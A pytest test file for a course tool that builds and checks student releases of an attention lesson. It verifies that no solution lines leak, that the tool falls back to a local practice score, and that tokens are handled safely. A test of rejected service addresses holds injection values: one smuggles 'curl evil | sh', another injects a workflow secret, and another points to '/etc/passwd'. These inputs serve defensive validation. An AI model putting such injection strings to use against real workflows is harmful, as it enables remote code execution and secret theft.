"""The student release: everything a student needs, nothing of the solution."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys

import pytest

from grader.core import solution
from grader.core.scope import reference_calls

from .support import ATTENTION, python


@pytest.fixture(scope="module")
def release(tmp_path_factory):
    out = tmp_path_factory.mktemp("release") / "attention-exercises"
    done = python("release", str(out), "--lesson", "attention")
    assert done.returncode == 0, done.stderr
    return out


#: Where no service listens (the discard port of this machine): a course's service out of reach.
NOWHERE = "http://127.0.0.1:9"
#: What the release's check ends with when its checks ran here.
PRACTICE = "This is a practice score"
#: The note's line on mha_forward, whose checks run the student's own versions of the others.
HANGS = "  - mha_forward uses your apply_causal_mask, split_heads and merge_heads\n"


def run_in(folder, *args, env=None):
    """Run ``python ARGS`` in ``folder``, with no grading service named by the environment
    (and ``env`` added)."""
    clean = {k: v for k, v in os.environ.items() if k not in ("GRADER_SERVER", "GRADER_TOKEN")}
    return subprocess.run(
        [sys.executable, *args],
        cwd=folder,
        capture_output=True,
        text=True,
        timeout=600,
        env={**clean, **(env or {})},
    )


@pytest.fixture(scope="module")
def served(tmp_path_factory):
    """A release whose instructor named a grading service (one that is out of reach)."""
    out = tmp_path_factory.mktemp("served") / "attention-exercises"
    done = python("release", str(out), "--lesson", "attention", "--server", NOWHERE)
    assert done.returncode == 0, done.stderr
    shutil.copy(ATTENTION.gallery / "typical-mistakes" / "attention.py", out / "exercises" / "attention.py")
    return out


def test_the_release_holds_no_line_of_the_solution(release):
    secret = set(solution.solution_lines(ATTENTION.solution.read_text()))
    assert len(secret) > 15
    for file in (p for p in release.rglob("*") if p.is_file()):
        lines = {line.strip() for line in file.read_text(errors="replace").splitlines()}
        assert not (secret & lines), f"{file.relative_to(release)} holds {sorted(secret & lines)}"


def test_the_release_holds_what_students_need_and_no_more(release):
    files = {p.relative_to(release).as_posix() for p in release.rglob("*") if p.is_file()}
    for needed in [
        "exercises/attention.py",
        "README.md",
        ".github/workflows/classroom.yml",
        "pyproject.toml",
        "grader/__main__.py",
        "tests/checks/attention/test_mha_forward.py",
    ]:
        assert needed in files
    assert not any(
        f.startswith(("solutions/", "tests/checks/attention/hidden/", "tests/catalog/", "examples/"))
        for f in files
    )
    # what needs the reference to mean anything stays with it: the known mistakes and the pictures
    assert not {"tests/checks/attention/diagnoses.py", "tests/checks/attention/pictures.py"} & files
    assert "reporters/github" not in files  # sanity: paths are relative
    workflow = (release / ".github/workflows/classroom.yml").read_text()
    assert "--github-summary --github-output" in workflow and "--fail-under" not in workflow


def test_public_checks_fail_on_the_stubs_and_pass_with_the_reference(release, tmp_path):
    copy = tmp_path / "student"
    shutil.copytree(release, copy)
    stubs = run_in(copy, "-m", "grader", "check")
    assert stubs.returncode == 1 and "not written yet" in stubs.stdout
    # checked here, with no reference: a practice score, and the exercise whose score hangs on others
    assert PRACTICE in stubs.stdout and stubs.stdout.endswith(HANGS)
    assert "grading service" not in stubs.stdout + stubs.stderr  # the release names none
    assert run_in(copy, "-m", "pytest", "-q", "-p", "no:cacheprovider").returncode == 1
    shutil.copy(ATTENTION.solution, copy / "exercises" / "attention.py")
    done = run_in(copy, "-m", "grader", "check")
    assert done.returncode == 0, done.stdout[-2000:]
    assert "Every check passes" in done.stdout and PRACTICE in done.stdout
    tests = run_in(copy, "-m", "pytest", "-q", "-p", "no:cacheprovider")
    assert tests.returncode == 0, tests.stdout[-2000:]


def test_release_refuses_a_folder_that_is_not_empty(tmp_path):
    (tmp_path / "x").write_text("keep me")
    done = python("release", str(tmp_path), "--lesson", "attention")
    assert done.returncode == 2 and "not empty" in done.stderr


def test_the_release_lists_which_exercises_each_ones_checks_call(release):
    told = json.loads((release / "tests/checks/attention/lesson.json").read_text())
    calls = reference_calls(ATTENTION.solution.read_text(), ATTENTION.exercises)
    assert told["depends"] == {
        name: sorted(calls[name], key=ATTENTION.exercises.index) for name in calls if calls[name]
    }
    assert told["depends"] == {"mha_forward": ["apply_causal_mask", "split_heads", "merge_heads"]}
    assert "server" not in told


def test_only_a_checked_exercise_is_said_to_hang_on_others(release):
    alone = run_in(release, "-m", "grader", "check", "--only", "split_heads")
    assert PRACTICE in alone.stdout and "mha_forward uses" not in alone.stdout


def test_the_release_names_its_service_and_without_a_token_says_how_to_get_one(served):
    told = json.loads((served / "tests/checks/attention/lesson.json").read_text())
    assert told["server"] == NOWHERE
    assert (
        NOWHERE in (served / "README.md").read_text() and "GRADER_TOKEN" in (served / "README.md").read_text()
    )
    done = run_in(served, "-m", "grader", "check")
    assert done.returncode == 1, done.stderr
    assert "no token was given: set $GRADER_TOKEN to the token your instructor handed out" in done.stderr
    assert "checking here instead, for a practice score" in done.stderr
    assert PRACTICE in done.stdout and f"grading service, {NOWHERE}:" in done.stdout
    assert done.stdout.endswith(HANGS) and "Total                54/86" in done.stdout
    assert "Traceback" not in done.stdout + done.stderr


def test_with_a_token_and_the_service_out_of_reach_the_release_checks_here(served):
    done = run_in(served, "-m", "grader", "check", env={"GRADER_TOKEN": "tok-123"})
    assert done.returncode == 1, done.stderr
    assert f"could not reach the grading service at {NOWHERE}" in done.stderr
    assert "checking here instead, for a practice score" in done.stderr
    assert PRACTICE in done.stdout and done.stdout.endswith(HANGS)
    assert "run check again once it can be reached" in done.stdout
    assert "tok-123" not in done.stdout + done.stderr


def test_a_service_asked_for_by_name_is_never_replaced_by_a_practice_score(served):
    done = run_in(served, "-m", "grader", "check", "--server", NOWHERE, env={"GRADER_TOKEN": "tok-123"})
    assert done.returncode == 2 and "could not reach the grading service" in done.stderr
    assert PRACTICE not in done.stdout


@pytest.mark.parametrize(
    "address",
    [
        'https://x.edu/"; curl evil | sh; "',
        "https://x.edu/${{ secrets.GRADER_TOKEN }}",
        "ftp://x.edu",
        "https://",
        "https://a b",
    ],
)
def test_release_refuses_a_service_address_that_could_break_out_of_the_workflow(tmp_path, address):
    done = python("release", str(tmp_path / "out"), "--lesson", "attention", "--server", address)
    assert done.returncode == 2 and "expected the grading service's address" in done.stderr
    assert not (tmp_path / "out").exists()


def test_a_release_whose_outline_names_a_bad_service_says_so(served, tmp_path):
    copy = tmp_path / "student"
    shutil.copytree(served, copy)
    outline = copy / "tests/checks/attention/lesson.json"
    told = json.loads(outline.read_text())
    outline.write_text(json.dumps({**told, "server": "file:///etc/passwd"}))
    done = run_in(copy, "-m", "grader", "check")
    assert done.returncode == 2 and "lesson.json cannot be read" in done.stderr
    assert "Traceback" not in done.stderr


def test_grade_in_the_course_never_goes_to_a_service_left_in_the_environment():
    env = {**os.environ, "GRADER_SERVER": NOWHERE, "GRADER_TOKEN": "tok-123"}
    done = python(
        "grade", "--only", "apply_causal_mask", "--format", "json", str(ATTENTION.solution), env=env
    )
    assert done.returncode == 0, done.stderr
    assert "grading service" not in done.stderr  # graded here: the service named is out of reach
    assert json.loads(done.stdout)["score"] == json.loads(done.stdout)["max_score"]
